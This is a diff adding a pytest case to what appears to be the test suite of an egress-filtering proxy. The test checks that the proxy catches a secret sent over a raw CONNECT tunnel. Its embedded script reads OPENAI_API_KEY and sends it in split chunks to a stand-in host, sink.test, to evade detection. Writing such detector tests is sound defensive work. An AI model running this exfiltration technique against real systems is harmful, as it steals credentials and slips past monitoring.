@@ -252,3 +252,40 @@ def test_benign_bodies_pass_whole(airlock, tmp_path, sink):
     assert lines[1] == lines[3], lines  # the same body, whole, both ways
     assert not recs(log, "exfil") and not recs(log, "kill")
     assert len(sink.received()) - before > 2 * 300000
+
+
+# a raw (not HTTP, not TLS) stream through CONNECT, after a forwarded request
+# on the same client connection: searched as a stream of its own
+TUNNEL_PY = r'''
+import os, socket, sys, time
+t = os.environ["OPENAI_API_KEY"][8:]
+port = sys.argv[1]
+host = ("sink.test:" + port).encode()
+s = socket.create_connection(("127.0.0.1", 3128), 5)
+s.sendall(b"POST http://" + host + b"/a HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 2\r\n\r\nhi")
+buf = b""
+while b"got 2" not in buf:
+    d = s.recv(4096)
+    if not d:
+        break
+    buf += d
+print("first", b"got 2" in buf, flush=True)
+s.sendall(b"CONNECT " + host + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
+print(s.recv(100)[:12], flush=True)
+s.sendall(b"HELO a raw protocol\r\n")
+time.sleep(0.3)
+s.sendall(b"DATA " + t[:15].encode())
+time.sleep(0.3)
+s.sendall(t[15:].encode() + b" end=1\r\n\r\n")
+time.sleep(3)
+print("after")
+'''
+
+
+def test_raw_stream_through_connect_after_a_forwarded_request(airlock, tmp_path, sink):
+    before = len(sink.received())
+    src = TUNNEL_PY.replace("'", "'\"'\"'")
+    res, log = run(airlock, tmp_path, sink, f"python3 -c '{src}' {sink.port}")
+    assert b"first True" in res.stdout, res.describe()
+    assert_exfil_kill(res, log, "stream", "plain", "https-connect")
+    assert b"end=1" not in sink.received()[before:]
